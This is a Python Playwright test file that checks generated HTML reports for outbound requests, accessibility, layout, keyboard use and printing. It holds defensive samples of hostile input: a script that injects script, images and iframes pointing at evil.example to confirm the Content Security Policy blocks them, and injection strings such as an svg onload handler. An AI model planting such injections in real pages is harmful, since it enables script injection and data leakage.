"""Reports in a real browser: nothing is loaded, nothing runs, nothing is in the way of whoever reads them."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Final, Literal

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, Page

from tests.browser.conftest import PATIENCE
from tests.browser.reports import TYPED, Reports

NAMES: Final = ("reminders", *TYPED)
OF_EACH_KIND: Final = ("reminders", "two-rounds", "waiting", "deliberation", "hostile")
"""Reports that between them have all that there is to look at closely, which takes long."""
WIDTHS: Final = (360, 768, 1280)
SCHEMES: Final[tuple[Literal["light"], Literal["dark"]]] = ("light", "dark")
OPEN: Final = "document.querySelectorAll('details').forEach(details => details.open = true)"
VIOLATIONS: Final = """() => new Promise(done => {
  const blocked = [];
  document.addEventListener('securitypolicyviolation', event => blocked.push(event.effectiveDirective));
  const add = (name, given) => document.body.append(Object.assign(document.createElement(name), given));
  add('img', {src: 'https://evil.example/a.png'});
  add('script', {textContent: 'document.title = "taken"'});
  add('script', {src: 'https://evil.example/a.js'});
  add('style', {textContent: 'body { display: none }'});
  add('iframe', {src: 'https://evil.example/'});
  fetch('https://evil.example/b').catch(() => {});
  setTimeout(() => done(blocked), 300);
})"""

pytestmark = [pytest.mark.row("A6"), pytest.mark.slow]


@pytest.fixture(scope="module")
def reports(tmp_path_factory: pytest.TempPathFactory) -> Reports:
    return Reports(tmp_path_factory.mktemp("reports") / "project")


@dataclass
class Opened:
    """A page, and what it has asked for and complained of."""

    page: Page
    requests: list[str] = field(default_factory=list)
    refused: list[str] = field(default_factory=list)
    """Those of them that the page's policy stopped."""
    complaints: list[str] = field(default_factory=list)


@pytest.fixture
def opened(browser: Browser) -> Iterator[Any]:
    """Opens a report; whatever it wants from elsewhere is on record."""
    contexts = []

    def open_page(path: Path, width: int = 1280, scheme: Literal["light", "dark"] = "light", **more: Any) -> Opened:
        context = browser.new_context(viewport={"width": width, "height": 900}, color_scheme=scheme, **more)
        context.set_default_timeout(PATIENCE)
        contexts.append(context)
        seen = Opened(context.new_page())
        seen.page.on("request", lambda request: seen.requests.append(request.url))
        seen.page.on(
            "requestfailed", lambda request: seen.refused.append(request.url) if request.failure == "csp" else None
        )
        seen.page.on("console", lambda message: seen.complaints.append(f"{message.type}: {message.text}"))
        seen.page.on("pageerror", lambda error: seen.complaints.append(str(error)))
        seen.page.goto(path.as_uri())
        return seen

    yield open_page
    for context in contexts:
        context.close()


@pytest.mark.parametrize("name", NAMES)
def test_no_request_leaves_and_the_browser_has_nothing_to_complain_of(name: str, reports: Reports, opened: Any) -> None:
    seen = opened(reports[name])
    seen.page.evaluate(OPEN)
    seen.page.wait_for_timeout(100)
    assert seen.requests == [reports[name].as_uri()]
    assert seen.complaints == []
    assert seen.page.title().startswith(f"{name} · ")


@pytest.mark.parametrize(
    ("name", "scheme"), [*((name, "light") for name in OF_EACH_KIND), ("waiting", "dark"), ("hostile", "dark")]
)
def test_axe_finds_no_serious_fault(name: str, scheme: Literal["light", "dark"], reports: Reports, opened: Any) -> None:
    seen = opened(reports[name], 360 if scheme == "light" else 1280, scheme)
    if reports[name].stat().st_size < 60_000:  # what is folded is looked at too, where that does not take minutes
        seen.page.evaluate(OPEN)
    left_out = {
        "color-contrast": {"enabled": name != "two-rounds"}
    }  # of 50 calls: it takes a minute, and finds nothing new
    response = Axe().run(seen.page, options={"resultTypes": ["violations"], "rules": left_out}).response
    faults = [
        (fault["id"], fault["impact"], fault["nodes"][0]["html"])
        for fault in response["violations"]
        if fault["impact"] in ("serious", "critical") or fault["id"] in ("heading-order", "region", "landmark-unique")
    ]
    assert faults == []
    assert len(response["passes"]) > 20


@pytest.mark.parametrize("name", NAMES)
def test_pictures_at_three_widths_and_nothing_is_wider_than_the_screen(
    name: str, reports: Reports, opened: Any, pictures: Path
) -> None:
    page = opened(reports[name]).page
    for width in WIDTHS:
        page.set_viewport_size({"width": width, "height": 900})
        for scheme in SCHEMES:
            page.emulate_media(color_scheme=scheme)
            page.screenshot(path=pictures / f"report-{name}-{width}-{scheme}.png")
        assert page.evaluate("document.documentElement.scrollWidth") <= width
    page.evaluate(OPEN)
    page.set_viewport_size({"width": min(WIDTHS), "height": 900})
    assert page.evaluate("document.documentElement.scrollWidth") <= min(WIDTHS)
    assert len(list(pictures.glob(f"report-{name}-*.png"))) == 6


def test_hostile_texts_are_seen_as_they_were_written(reports: Reports, opened: Any) -> None:
    page = opened(reports["hostile"]).page
    page.evaluate(OPEN)
    page.wait_for_timeout(100)
    assert page.title() == "hostile · w · completed"
    assert (
        page.evaluate("document.scripts.length + document.images.length + document.querySelectorAll('iframe').length")
        == 0
    )
    assert page.evaluate("document.styleSheets.length") == 1
    assert page.evaluate("[...document.links].filter(link => !/^(file:|https?:|mailto:)/.test(link.href)).length") == 0
    text = page.inner_text("main")
    assert "<style>* { display: none }</style>" in text
    assert "<svg onload=" in text
    assert "{{ 7 * 7 }}" in text
    assert "[image: three https://evil.example/b.png]" in text
    assert not {"\u202e", "\u2066"} & set(text)
    assert page.evaluate("document.querySelector('main').closest('body') !== null")
    assert page.locator("footer").is_visible()


def test_the_policy_would_stop_what_got_through(reports: Reports, opened: Any) -> None:
    seen = opened(reports["hostile"])
    blocked = seen.page.evaluate(VIOLATIONS)
    assert {"img-src", "script-src-elem", "style-src-elem", "frame-src", "connect-src"} <= set(blocked)
    assert seen.page.title() == "hostile · w · completed"
    assert seen.page.locator("main").is_visible()
    assert {url for url in seen.requests if url.startswith("http")} <= set(seen.refused)


def test_it_works_without_scripts_and_a_link_unfolds_what_it_leads_to(reports: Reports, opened: Any) -> None:
    page = opened(reports["reminders"], java_script_enabled=False).page
    target = page.locator("#texts pre").first
    assert not target.is_visible()
    place = target.get_attribute("id")
    page.goto(f"{reports['reminders'].as_uri()}#{place}")
    page.wait_for_timeout(100)
    assert target.is_visible()


def test_it_is_read_by_keyboard(reports: Reports, opened: Any) -> None:
    page = opened(reports["reminders"]).page
    page.keyboard.press("Tab")
    focus = "document.activeElement.className + ' ' + getComputedStyle(document.activeElement).outlineStyle"
    assert page.evaluate(focus) == "skip solid"
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.id") == "main"
    fold = page.locator("#documents summary").first
    fold.focus()
    page.keyboard.press("Enter")
    assert page.locator("#documents details").first.get_attribute("open") is not None
    assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"


def test_what_is_folded_is_printed(reports: Reports, opened: Any) -> None:
    page = opened(reports["deliberation"]).page
    folded = page.locator(".call details.prompt .parts").first
    assert not folded.is_visible()
    page.emulate_media(media="print")
    assert folded.evaluate("element => element.getBoundingClientRect().height") > 20
    sent = page.locator("details.sent pre")
    assert sent.first.evaluate("element => element.checkVisibility()") is False
    sent.first.evaluate("element => element.closest('details').open = true")
    assert sent.first.evaluate("element => element.checkVisibility()") is True
    assert not page.locator("nav").is_visible()
    assert page.pdf()[:5] == b"%PDF-"


def test_the_person_sees_the_plan_without_scrolling_past_anything_else(reports: Reports, opened: Any) -> None:
    page = opened(reports["reminders"]).page
    box = page.locator("#result h2").bounding_box()
    assert box is not None
    assert box["y"] < 500
    assert page.locator("main > section").first.get_attribute("id") == "result"
